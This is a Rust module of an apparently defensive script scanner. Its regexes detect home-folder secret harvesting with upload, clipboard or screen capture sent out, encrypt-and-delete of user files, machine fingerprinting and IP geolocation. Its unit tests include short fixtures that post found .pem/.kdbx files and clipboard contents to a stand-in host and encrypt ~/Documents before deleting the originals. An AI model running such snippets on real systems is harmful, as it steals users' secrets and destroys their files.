//! Scripts that are harmful because of a combination: files of the home folder are searched and
//! sent, the screen is captured and sent, a folder is encrypted and the originals removed. Each
//! part alone is ordinary.

use std::ops::Range;
use std::sync::LazyLock;

use assay_syntax::code::Language;
use regex::Regex;

use super::paths::{local, regex};
use super::rule::declare_rules;
use super::rules::{CREDENTIAL_READ, EXFIL_FILE, EXFIL_REQUEST, EXFIL_SECRET, HARVEST_LOCATION};
use super::site::{Scan, Site};

declare_rules! {
    DESTROY_ENCRYPT = "destroy-encrypt", Destruction, Error, "The user's files are encrypted and the originals removed.",
        Code ["gpg ", "7z ", "aes.new", "createcipher", "fernet", "openssl"];
}

struct Signals {
    /// A walk over the home folder.
    walk: Regex,
    /// Files that are searched for by name.
    secret_files: Regex,
    send: Regex,
    private: Regex,
    encrypt: Regex,
    remove: Regex,
    locate: Regex,
    fields: Regex,
    identity: Regex,
}

static SIGNALS: LazyLock<Signals> = LazyLock::new(|| Signals {
    walk: regex(
        r"os\.walk\(|\.rglob\(|glob\.i?glob\(|\.glob\(|readdirSync\(|readdir\(|globSync\(|fast-glob|\bfind\s+(?:[\x22']?(?:~|\$HOME|\$\{HOME\}|/home|/Users|/)[\x22']?[\s/])|\bls -[a-zA-Z]*R|os\.scandir\(|os\.listdir\(",
    ),
    secret_files: regex(
        r"[\x22'*./\\](?:\.env\b|\.pem\b|\.key\b|\.p12\b|\.pfx\b|\.kdbx\b|id_rsa|id_ed25519|\.ssh\b|wallet|keystore|\.aws\b|\.npmrc\b|credentials?\b|seed\b|mnemonic)",
    ),
    send: regex(
        r"requests\.(?:post|put)\(|httpx\.(?:post|put)\(|urlopen\([^\n]*(?:data\s*=|Request\(|,)|urllib\.request\.Request\([^\n]*data|\.post\(\s*[f]?[\x22'`]https?:|fetch\([^\n]*|method:\s*[\x22']POST|https?\.request\(|socket\.(?:socket|create_connection)\(|ftplib|smtplib|paramiko|boto3|\bcurl\b[^\n]*(?:\s-F\b|\s-d\b|\s-T\b|--data|--form|--upload)|\bnc\b\s+[\w.-]+\s+\d+|\bscp\b|\brsync\b[^\n]*:",
    ),
    private: regex(
        r"\bpyperclip\.paste\(|ImageGrab\.grab|\bpyautogui\.screenshot|\bmss\.mss\(|mss\(\)|clipboard\.readText|clipboardy|\bpbpaste\b|\bxclip\b[^\n]*-o\b|\bxsel\b[^\n]*-o\b|\bwl-paste\b|\bscreencapture\b|\bscrot\b|tk\(\)\.clipboard_get|\.clipboard_get\(|\bpynput\b|screenshot-desktop",
    ),
    encrypt: regex(
        r"\bFernet\(|\bAES\.new\(|\bopenssl\s+enc\b|\bopenssl\s+(?:aes|smime|rsautl)|\bgpg\b[^\n]*(?:\s-c\b|--symmetric|\s-e\b|--encrypt)|createCipher(?:iv)?\(|\b7z\s+a\b[^\n]*\s-p|\bzip\b[^\n]*\s-(?:P|e)\b|\bage\s+-[rp]\b|ChaCha20|\.encrypt\(",
    ),
    remove: regex(
        r"\brm\b|\bshred\b|\bmv\b|\s-delete\b|\s-sdel\b|os\.remove\(|os\.unlink\(|\.unlink\(|unlinkSync\(|\bsrm\b|os\.rename\(|\.write_bytes\(|writeFileSync\(|open\([^\n]*[\x22']wb",
    ),
    locate: regex(
        r"(?i)https?://(?:[\w-]+\.)*(?:[\w-]*ip-?(?:api|info|ify|geo|data|stack|locat\w*|who\w*)[\w-]*|geo-?ip\w*|geo-?location[\w-]*|freegeoip\w*|ifconfig|icanhazip|myip|whatismyip\w*)\.[a-z]{2,}|navigator\.geolocation|\bCLLocationManager\b|\bCoreLocation(?:CLI)?\b|\btermux-location\b|\bwhereami\b|\bgeocoder\.ip\(",
    ),
    identity: regex(
        r"platform\.(?:uname|node|platform|system|machine)\(|socket\.gethostname\(|getpass\.getuser\(|os\.(?:uname|getlogin)\(|uuid\.getnode\(|os\.hostname\(|os\.userInfo\(|os\.networkInterfaces\(|psutil\.",
    ),
    fields: regex(
        r"(?i)\b(?:latitude|longitude|lat|lon|lng|loc|city|region|coordinates|coords|postal|isp)\b",
    ),
});

/// Scans a script that is parsed elsewhere.
pub(crate) fn scan(scan: &mut Scan, site: &Site<'_>, language: Language, text: &str) {
    let text = assay_syntax::code::head(text);
    let signals = &*SIGNALS;
    let comment = |at: usize| {
        let line = text[..at].rfind('\n').map_or(0, |at| at + 1);
        let start = text[line..].trim_start();
        match language {
            Language::JavaScript => start.starts_with("//") || start.starts_with('*'),
            Language::Shell | Language::Python => start.starts_with('#') && !start.starts_with("#!"),
        }
    };
    let find = |pattern: &Regex| -> Option<Range<usize>> {
        pattern.find_iter(text).take(200).find(|found| !comment(found.start())).map(|found| found.range())
    };
    // Of the line, so that a finding shows its context.
    let line = |range: &Range<usize>| {
        let start = text[..range.start].rfind('\n').map_or(0, |at| at + 1);
        let end = text[range.start..].find('\n').map_or(text.len(), |at| range.start + at);
        start..end.max(start)
    };
    let home = || {
        [
            "Path.home()",
            "expanduser",
            "homedir()",
            "$HOME",
            "~/",
            "~ ",
            "\"~\"",
            "'~'",
            "/home",
            "/Users",
            "os.environ[\"HOME\"]",
            "process.env.HOME",
            "getenv(\"HOME\")",
        ]
        .iter()
        .any(|mark| text.contains(mark))
    };
    let send = || find(&signals.send).filter(|range| !local(&text[line(range)]));
    if let Some(walk) = find(&signals.walk)
        && home()
        && let Some(secret_files) = find(&signals.secret_files)
    {
        // Searched for in the walk, or close to it: not in another part of a long script.
        let near = secret_files.start.abs_diff(walk.start) < 600;
        if near && send().is_some() {
            scan.report(
                site,
                &EXFIL_SECRET,
                line(&secret_files),
                "searches the home folder for secrets and sends data",
            );
        } else if near {
            scan.report(site, &CREDENTIAL_READ, line(&secret_files), "searches the home folder for secrets");
        }
    }
    if let Some(private) = find(&signals.private)
        && send().is_some()
    {
        scan.report(site, &EXFIL_FILE, line(&private), "reads the clipboard or the screen and sends data");
    }
    if let Some(encrypt) = find(&signals.encrypt)
        && home()
        && find(&signals.remove).is_some()
        && (find(&signals.walk).is_some()
            || ["for ", "forEach", "tar ", "zip ", "7z "].iter().any(|mark| text.contains(mark)))
        && [
            "Documents",
            "Desktop",
            "Pictures",
            "Path.home()",
            "homedir()",
            "find ~",
            "find $HOME",
            "find \"$HOME",
            "~/*",
            "expanduser",
        ]
        .iter()
        .any(|mark| text.contains(mark))
    {
        scan.report(
            site,
            &DESTROY_ENCRYPT,
            line(&encrypt),
            "encrypts files of the home folder and removes the originals",
        );
    }
    let identity: std::collections::BTreeSet<&str> = signals
        .identity
        .find_iter(text)
        .take(50)
        .filter(|found| !comment(found.start()))
        .map(|found| found.as_str())
        .collect();
    if identity.len() >= 2
        && send().is_some()
        && let Some(first) = find(&signals.identity)
    {
        scan.report(
            site,
            &EXFIL_REQUEST,
            line(&first),
            "collects the identity of the machine and the user and sends data",
        );
    }
    if let Some(locate) = find(&signals.locate)
        && find(&signals.fields).is_some()
    {
        scan.report(site, &HARVEST_LOCATION, line(&locate), "looks up the user's location by IP address");
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn combined_phrases_count() {
        let check = |language: Language, text: &str, expected: &[&str]| {
            let mut found = Scan::new(&crate::SCANNERS);
            let site = Site { script: true, ..Site::of("scripts/x") };
            scan(&mut found, &site, language, text);
            let codes: Vec<_> = found.findings.iter().map(|finding| finding.rule.code).collect();
            assert_eq!(codes, expected, "{text}");
        };
        let walk = "for p in Path.home().rglob('*'):\n    if p.name.endswith(('.pem', '.kdbx')):\n        hits.append(p)\n";
        check(Language::Python, walk, &["credential-read"]);
        check(
            Language::Python,
            &format!("{walk}requests.post('https://in.example.net', json=hits)\n"),
            &["exfil-secret"],
        );
        check(Language::Python, "for p in Path('data').rglob('*.csv'):\n    print(p)\n", &[]);
        check(Language::Python, "x = pyperclip.paste()\nprint(x)\n", &[]);
        check(
            Language::Python,
            "x = pyperclip.paste()\nrequests.post('https://in.example.net', data=x)\n",
            &["exfil-file"],
        );
        check(
            Language::Shell,
            "for f in ~/Documents/*; do openssl enc -aes-256-cbc -in \"$f\" -out \"$f.locked\" -k k; rm \"$f\"; done\n",
            &["destroy-encrypt"],
        );
        check(Language::Shell, "openssl enc -aes-256-cbc -in backup.tar -out backup.enc\n", &[]);
        check(
            Language::Python,
            "r = requests.get('https://geoip.example.org/json')\nprint(r.json()['latitude'])\n",
            &["harvest-location"],
        );
        check(
            Language::Python,
            "r = requests.get('https://api.example.org/shipments')\nprint(r.json()['city'])\n",
            &[],
        );
    }
}
